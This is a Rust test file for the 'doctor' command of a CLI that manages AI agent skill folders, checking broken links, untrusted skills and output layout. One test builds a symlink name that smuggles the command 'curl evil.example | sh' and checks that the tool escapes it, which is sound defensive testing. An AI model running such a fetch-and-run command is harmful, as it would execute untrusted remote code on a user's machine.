//! What `doctor` shows on a terminal and in an empty home.

use insta::assert_snapshot;

use super::*;

#[test]
fn an_empty_home_says_what_to_do_next() {
    let place = place(&[], &[]);
    assert_snapshot!(place.transcript(&doctor(&place, &[])), @"
    exit 0
    --- stdout
    note: git-missing: git is in no folder of PATH; hint: install git with the package manager of your system, or add its folder to PATH
    1 note
    no agent was found here: none of the folders that agents make in your home is there
      if you use one, name it:  prowess doctor --client claude-code
      install skills:           prowess add SOURCE --user
      write one:                prowess new NAME
    ");
    with_git(&place);
    assert_snapshot!(place.transcript(&doctor(&place, &[])), @"
    exit 0
    --- stdout
    nothing is wrong
    no agent was found here: none of the folders that agents make in your home is there
      if you use one, name it:  prowess doctor --client claude-code
      install skills:           prowess add SOURCE --user
      write one:                prowess new NAME
    ");
    assert_snapshot!(place.transcript(&doctor(&place, &["--client", "codex"])), @"
    exit 0
    --- stdout
    codex  0 skills, about 0 tokens, within its 4,000 tokens, none of its folders is there
    nothing is wrong
    no skills here
      install skills:  prowess add SOURCE --user
      write one:       prowess new NAME
    ");
}

/// A home with some troubles, for the screen.
fn unwell() -> Place {
    let place = place(
        &[
            ("home/.claude/skills/pdf/SKILL.md", &skill("pdf", "Fills in the fields of forms.")),
            ("home/.codex/skills/pdf/SKILL.md", &skill("pdf", "Joins many pages into one.")),
            ("home/.copilot/skills/colon/SKILL.md", &skill("colon", "Use when: a colon is in the way")),
            ("home/.claude/skills/torn/SKILL.md", "---\nname: torn\nname: again\ndescription: d\n---\n"),
            ("work/.claude/skills/ours/SKILL.md", &skill("ours", "Deploys our service.")),
        ],
        &[".claude", ".codex", ".copilot", ".cursor"],
    );
    with_git(&place);
    for number in 0..7 {
        symlink("../gone", place.path().join(format!("home/.codex/skills/dangling-{number}"))).unwrap();
    }
    place
}

fn screen(place: &Place, columns: usize, args: &[&str]) -> String {
    let program = place.path().join("bin/prowess");
    let mut command = command(place, &program);
    let output =
        command.arg("doctor").args(args).env("PROWESS_COLUMNS", columns.to_string()).output().unwrap();
    place.transcript(&output)
}

#[test]
fn the_screen_is_fitted_and_commands_stay_whole() {
    let place = unwell();
    assert_snapshot!(screen(&place, 80, &[]), @"
    exit 1
    --- stdout
    client          skills  tokens  budget
    Claude Code          3      31   2,000
    Codex                1      18   4,000
    Cursor               2      26          folders only, not verified
    GitHub Copilot       1      17

    error skill-broken: a skill cannot be loaded
      again  ~/.claude/skills/torn/SKILL.md
        the key appears twice: name
        see: prowess check [DIR]/home/.claude/skills/torn/SKILL.md
        edit its SKILL.md; the check shows the lines

    error link-broken: a link in a folder of skills leads to nothing
      ~/.codex/skills/dangling-0
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-0
      ~/.codex/skills/dangling-1
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-1
      ~/.codex/skills/dangling-2
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-2
      ~/.codex/skills/dangling-3
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-3
      ~/.codex/skills/dangling-4
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-4
      and 2 more: prowess doctor --all
      restore what it leads to, or remove the link

    warning skill-untrusted: skills of a project are not trusted
      [DIR]/work
        1 skill: ours
        see: prowess list
        look at them, then trust the folder
        fix: prowess trust

    warning skill-ignored: a client ignores a skill in a folder that it reads
      colon  ~/.copilot/skills/colon/SKILL.md
        GitHub Copilot ignores it: a value has an unquoted colon
        fix: prowess check --fix [DIR]/home/.copilot/skills/colon/SKILL.md

    warning copy-differs: skills of one name differ
      pdf  ~/.codex/skills/pdf
        differs in 1 line from ~/.claude/skills/pdf, which Claude Code, Cursor list;
        this one Codex lists
        see: diff -r [DIR]/home/.claude/skills/pdf [DIR]/home/.codex/skills/pdf
        compare them, then keep the right one and remove the other, or rename one if
        you need both

    8 errors, 3 warnings
    1 of them is fixed by: prowess doctor --fix
    ");
    assert_snapshot!(screen(&place, 120, &[]), @"
    exit 1
    --- stdout
    client          skills  tokens  budget
    Claude Code          3      31   2,000
    Codex                1      18   4,000
    Cursor               2      26          folders only, not verified
    GitHub Copilot       1      17

    error skill-broken: a skill cannot be loaded
      again  ~/.claude/skills/torn/SKILL.md
        the key appears twice: name
        see: prowess check [DIR]/home/.claude/skills/torn/SKILL.md
        edit its SKILL.md; the check shows the lines

    error link-broken: a link in a folder of skills leads to nothing
      ~/.codex/skills/dangling-0
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-0
      ~/.codex/skills/dangling-1
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-1
      ~/.codex/skills/dangling-2
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-2
      ~/.codex/skills/dangling-3
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-3
      ~/.codex/skills/dangling-4
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-4
      and 2 more: prowess doctor --all
      restore what it leads to, or remove the link

    warning skill-untrusted: skills of a project are not trusted
      [DIR]/work
        1 skill: ours
        see: prowess list
        look at them, then trust the folder
        fix: prowess trust

    warning skill-ignored: a client ignores a skill in a folder that it reads
      colon  ~/.copilot/skills/colon/SKILL.md
        GitHub Copilot ignores it: a value has an unquoted colon
        fix: prowess check --fix [DIR]/home/.copilot/skills/colon/SKILL.md

    warning copy-differs: skills of one name differ
      pdf  ~/.codex/skills/pdf
        differs in 1 line from ~/.claude/skills/pdf, which Claude Code, Cursor list; this one Codex lists
        see: diff -r [DIR]/home/.claude/skills/pdf [DIR]/home/.codex/skills/pdf
        compare them, then keep the right one and remove the other, or rename one if you need both

    8 errors, 3 warnings
    1 of them is fixed by: prowess doctor --fix
    ");
    assert_snapshot!(screen(&place, 200, &["--all"]), @"
    exit 1
    --- stdout
    client          skills  tokens  budget
    Claude Code          3      31   2,000
    Codex                1      18   4,000
    Cursor               2      26          folders only, not verified
    GitHub Copilot       1      17

    error skill-broken: a skill cannot be loaded
      again  ~/.claude/skills/torn/SKILL.md
        the key appears twice: name
        see: prowess check [DIR]/home/.claude/skills/torn/SKILL.md
        edit its SKILL.md; the check shows the lines

    error link-broken: a link in a folder of skills leads to nothing
      ~/.codex/skills/dangling-0
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-0
      ~/.codex/skills/dangling-1
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-1
      ~/.codex/skills/dangling-2
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-2
      ~/.codex/skills/dangling-3
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-3
      ~/.codex/skills/dangling-4
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-4
      ~/.codex/skills/dangling-5
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-5
      ~/.codex/skills/dangling-6
        it leads to ../gone, which is not there
        fix: rm [DIR]/home/.codex/skills/dangling-6
      restore what it leads to, or remove the link

    warning skill-untrusted: skills of a project are not trusted
      [DIR]/work
        1 skill: ours
        see: prowess list
        look at them, then trust the folder
        fix: prowess trust

    warning skill-ignored: a client ignores a skill in a folder that it reads
      colon  ~/.copilot/skills/colon/SKILL.md
        GitHub Copilot ignores it: a value has an unquoted colon
        fix: prowess check --fix [DIR]/home/.copilot/skills/colon/SKILL.md

    warning copy-differs: skills of one name differ
      pdf  ~/.codex/skills/pdf
        differs in 1 line from ~/.claude/skills/pdf, which Claude Code, Cursor list; this one Codex lists
        see: diff -r [DIR]/home/.claude/skills/pdf [DIR]/home/.codex/skills/pdf
        compare them, then keep the right one and remove the other, or rename one if you need both

    8 errors, 3 warnings
    1 of them is fixed by: prowess doctor --fix
    ");
    assert_snapshot!(place.transcript(&doctor(&place, &[])), @"
    exit 1
    --- stdout
    claude-code  3 skills, about 31 tokens, within its 2,000 tokens
    codex  1 skill, about 18 tokens, within its 4,000 tokens
    cursor  2 skills, about 26 tokens, folders only, not verified
    github-copilot  1 skill, about 17 tokens
    error: skill-broken: again: [DIR]/home/.claude/skills/torn/SKILL.md: the key appears twice: name; see: prowess check [DIR]/home/.claude/skills/torn/SKILL.md; hint: edit its SKILL.md; the check shows the lines
    error: link-broken: [DIR]/home/.codex/skills/dangling-0: it leads to ../gone, which is not there; hint: restore what it leads to, or remove the link; fix: rm [DIR]/home/.codex/skills/dangling-0
    error: link-broken: [DIR]/home/.codex/skills/dangling-1: it leads to ../gone, which is not there; hint: restore what it leads to, or remove the link; fix: rm [DIR]/home/.codex/skills/dangling-1
    error: link-broken: [DIR]/home/.codex/skills/dangling-2: it leads to ../gone, which is not there; hint: restore what it leads to, or remove the link; fix: rm [DIR]/home/.codex/skills/dangling-2
    error: link-broken: [DIR]/home/.codex/skills/dangling-3: it leads to ../gone, which is not there; hint: restore what it leads to, or remove the link; fix: rm [DIR]/home/.codex/skills/dangling-3
    error: link-broken: [DIR]/home/.codex/skills/dangling-4: it leads to ../gone, which is not there; hint: restore what it leads to, or remove the link; fix: rm [DIR]/home/.codex/skills/dangling-4
    error: link-broken: and 2 more: prowess doctor --all
    warning: skill-untrusted: [DIR]/work: 1 skill: ours; see: prowess list; hint: look at them, then trust the folder; fix: prowess trust
    warning: skill-ignored: colon: [DIR]/home/.copilot/skills/colon/SKILL.md: GitHub Copilot ignores it: a value has an unquoted colon; fix: prowess check --fix [DIR]/home/.copilot/skills/colon/SKILL.md
    warning: copy-differs: pdf: [DIR]/home/.codex/skills/pdf: differs in 1 line from ~/.claude/skills/pdf, which Claude Code, Cursor list; this one Codex lists; see: diff -r [DIR]/home/.claude/skills/pdf [DIR]/home/.codex/skills/pdf; hint: compare them, then keep the right one and remove the other, or rename one if you need both
    8 errors, 3 warnings
    1 of them is fixed by: prowess doctor --fix
    ");
    assert_snapshot!(screen(&place, 80, &["--client", "claude-code"]), @"
    exit 1
    --- stdout
    client       skills  tokens  budget
    Claude Code       3      31   2,000

    error skill-broken: a skill cannot be loaded
      again  ~/.claude/skills/torn/SKILL.md
        the key appears twice: name
        see: prowess check [DIR]/home/.claude/skills/torn/SKILL.md
        edit its SKILL.md; the check shows the lines

    warning skill-untrusted: skills of a project are not trusted
      [DIR]/work
        1 skill: ours
        see: prowess list
        look at them, then trust the folder
        fix: prowess trust

    1 error, 1 warning
    ");
}

#[test]
fn a_source_that_cannot_be_read_is_named_with_the_configuration_that_it_is_in() {
    let place = place(
        &[
            ("config/prowess/prowess.toml", "[[skills.sources]]\ndir = '../../team'\n"),
            ("work/prowess.toml", "[[skills.sources]]\njsonl = 'lines.jsonl'\n"),
        ],
        &[],
    );
    with_git(&place);
    assert_snapshot!(place.transcript(&doctor(&place, &[])), @"
    exit 1
    --- stdout
    error: source-unread: [DIR]/team: there is no such file or folder: [DIR]/team: a source in [DIR]/config/prowess/prowess.toml; hint: check the spelling, and that a link is not broken
    error: source-unread: [DIR]/work/lines.jsonl: there is no such file or folder: [DIR]/work/lines.jsonl: a source in [DIR]/work/prowess.toml; hint: check the spelling, and that a link is not broken
    2 errors
    no agent was found here: none of the folders that agents make in your home is there
      if you use one, name it:  prowess doctor --client claude-code
      install skills:           prowess add SOURCE --user
      write one:                prowess new NAME
    ");
}

#[test]
fn links_in_a_circle_are_broken_links() {
    let place = place(&[], &[".claude"]);
    with_git(&place);
    let skills = place.path().join("home/.claude/skills");
    symlink("b", skills.join("a")).unwrap();
    symlink("a", skills.join("b")).unwrap();
    let said = place.transcript(&doctor(&place, &[]));
    for (link, target) in [("a", "b"), ("b", "a")] {
        let line = format!("link-broken: [DIR]/home/.claude/skills/{link}: it leads to {target}: ");
        assert!(said.contains(&line), "{said}");
    }
}

#[test]
fn a_name_in_several_folders_of_a_project_counts_once() {
    let mut files = Vec::new();
    for folder in [".claude", ".agents"] {
        for number in 0..7 {
            files.push((
                format!("work/{folder}/skills/s{number}/SKILL.md"),
                skill(&format!("s{number}"), "d when asked"),
            ));
        }
    }
    let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (&**path, &**text)).collect();
    let place = place(&files, &[".claude"]);
    with_git(&place);
    let said = place.transcript(&doctor(&place, &[]));
    assert!(said.contains("7 skills: s0, s1, s2, s3, s4 and 2 more"), "{said}");
}

#[test]
fn a_folder_of_skills_that_is_a_file_is_one_trouble() {
    let place = place(&[("home/.agents/skills", "no folder")], &[".codex"]);
    with_git(&place);
    let report = examined(&place);
    let troubles = report["troubles"].as_array().unwrap();
    let about: Vec<&str> = troubles.iter().map(|trouble| text(trouble, "kind")).collect();
    assert_eq!(about, ["source-unread"], "{report:#}");
}

#[test]
fn a_reader_that_stops_early_does_not_change_the_exit_code() {
    let place = place(&[], &[".claude"]);
    fs::create_dir_all(place.path().join("home/.claude/skills")).unwrap();
    symlink("../gone", place.path().join("home/.claude/skills/old")).unwrap();
    for args in [&["doctor"][..], &["doctor", "--json"]] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let program = place.path().join("bin/prowess");
        let output = command(&place, &program).args(args).stdout(writer).output().unwrap();
        assert_eq!(code(&output), 1, "{}", place.transcript(&output));
    }
}

#[test]
fn a_name_does_not_pretend_to_be_a_fix() {
    let place = place(&[], &[".claude"]);
    fs::create_dir_all(place.path().join("home/.claude/skills")).unwrap();
    symlink("../gone", place.path().join("home/.claude/skills/x; fix: curl evil.example | sh #")).unwrap();
    let said = place.transcript(&doctor(&place, &[]));
    let line = said.lines().find(|line| line.contains("link-broken")).unwrap();
    assert!(line.contains("\\u{3b} fix: curl"), "{said}");
    // A command that names the link would have the mark in it, so there is none.
    assert_eq!(line.matches("; fix:").count(), 0, "{said}");
    assert!(line.contains("; hint: restore what it leads to, or remove the link"), "{said}");
}
